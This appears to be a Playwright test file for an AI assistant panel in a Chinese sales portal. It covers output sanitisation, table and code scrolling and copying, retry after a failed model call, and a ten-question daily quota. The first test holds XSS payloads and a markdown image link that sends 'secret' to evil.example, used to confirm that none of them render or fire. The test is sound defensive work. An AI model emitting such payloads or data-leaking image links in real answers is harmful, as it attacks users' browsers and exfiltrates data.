import { AssistantDriver } from './driver/AssistantDriver.ts';
import { expect, test } from './modelTest.ts';

const SHORT = '可售天数为 **41 天**，暂不需要补货。';

/** The agent whose questions are not counted. */
const FREE_AGENT = '帮助顾问';

test('[I114] [I121] [I122] nothing that a model writes is run or loaded; code and wide tables scroll in the answer and are copied', async ({
  portal,
  model,
  context,
  browserName,
}) => {
  if (browserName === 'chromium') await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const wide = Array.from({ length: 24 }, (_, index) => `第${index + 1}周销售额`);
  const code = `select ${wide.map((_, index) => `week_${index + 1}`).join(', ')} from sales;`;
  model.provider.script({
    think: '',
    paceMs: 0,
    content: [
      '<img src="https://evil.example/a.png" onerror="document.title=\'xss\'"><script>document.title="xss"</script>',
      '[点我](javascript:document.title="xss") ![图](https://evil.example/b.png?d=secret)',
      `\`\`\`sql\n${code}\n\`\`\``,
      `|${wide.join('|')}|\n|${wide.map(() => '---').join('|')}|\n|${wide.map((_, index) => index).join('|')}|`,
    ].join('\n\n'),
  });
  const elsewhere: string[] = [];
  portal.page.on('request', (request) => {
    if (request.url().includes('evil.example')) elsewhere.push(request.url());
  });
  await portal.enter('sail');
  const assistant = new AssistantDriver(portal.page);
  await assistant.open();
  await assistant.useAgent(FREE_AGENT);
  const count = await assistant.answers.count();
  await assistant.ask('写一段查询');
  await expect(assistant.answers).toHaveCount(count + 1);
  await assistant.expectAnswered();
  const answer = assistant.lastAnswer;
  await expect(answer.locator('script, img')).toHaveCount(0);
  await expect(answer.locator('a[href^="javascript"]')).toHaveCount(0);
  await expect(portal.page).not.toHaveTitle(/xss/);
  expect(elsewhere).toEqual([]);
  for (const inside of [answer.locator('pre'), answer.locator('table')]) {
    const isScrolled = () =>
      inside.evaluate((element) => {
        for (let at: Element | null = element; at && at.tagName !== 'ARTICLE'; at = at.parentElement)
          if (at.scrollWidth > at.clientWidth && getComputedStyle(at).overflowX === 'auto') return true;
        return false;
      });
    await expect.poll(isScrolled).toBe(true);
  }
  expect(await assistant.list.evaluate((list) => list.scrollWidth - list.clientWidth)).toBeLessThanOrEqual(0);
  await answer.getByRole('button', { name: '复制代码' }).click();
  await expect(assistant.notice('复制成功')).toBeVisible();
  if (browserName !== 'chromium') return;
  const copied = () => portal.page.evaluate(() => navigator.clipboard.readText());
  expect((await copied()).trim()).toBe(code);
  await answer.getByRole('button', { name: '复制表格' }).click();
  await expect.poll(copied).toContain(wide.join('\t'));
});

test('[I99] [I217] a model that refuses is said plainly and asked again for nothing; another model answers', async ({
  portal,
  model,
}) => {
  model.provider.script({ think: '', content: SHORT, paceMs: 0, mode: '401' });
  await portal.enter('demo');
  const assistant = new AssistantDriver(portal.page);
  await assistant.open();
  await assistant.begin();
  await assistant.ask('近7天各店铺的销售额');
  const failed = assistant.lastAnswer.getByRole('alert');
  await expect(failed).toBeVisible();
  await expect(failed).not.toContainText(/401|error|Error/);
  const used = await assistant.used();
  model.provider.script({ mode: 'answer' });
  await failed.getByRole('button', { name: '重试' }).click();
  await assistant.expectAnswered();
  await expect(assistant.lastAnswer.locator('strong')).toHaveText('41 天');
  expect(await assistant.used()).toBe(used);
  await assistant.drawer.getByRole('button', { name: '模型 语言模型' }).click();
  await portal.page.getByRole('menuitemradio', { name: /^内置应答/ }).click();
  await assistant.ask('近7天各店铺的销售额');
  await expect(assistant.answers).toHaveCount(2);
  await assistant.expectAnswered();
  await expect(assistant.lastAnswer.getByRole('figure').first()).toBeVisible();
});

test('[I5] [I54] [S506] the questions of a day are counted to ten, then the field says so; the agent that is free goes on', async ({
  portal,
  model,
}) => {
  test.setTimeout(120_000);
  model.provider.script({ think: '', content: SHORT, paceMs: 0, mode: 'answer' });
  await portal.enter('plus');
  const assistant = new AssistantDriver(portal.page);
  await assistant.open();
  await assistant.begin();
  for (let used = await assistant.used(); used < 10; used += 1) {
    await assistant.ask(`第 ${used + 1} 个问题`);
    await expect.poll(() => assistant.used()).toBe(used + 1);
    await assistant.expectAnswered();
  }
  await expect(assistant.drawer.getByText('今日已用 10/10 次')).toBeVisible();
  await expect(
    assistant.drawer.getByRole('status').filter({ hasText: '今日免费提问次数已用完' }),
  ).toBeVisible();
  const count = await assistant.list.getByRole('article').count();
  await assistant.ask('再问一个');
  await expect(assistant.field).toHaveValue('再问一个');
  expect(await assistant.list.getByRole('article').count()).toBe(count);
  await assistant.field.fill('');
  await assistant.useAgent(FREE_AGENT);
  await expect(assistant.drawer.getByText('此智能体不计提问次数')).toBeVisible();
  await assistant.ask('还能问吗');
  await assistant.expectAnswered();
});
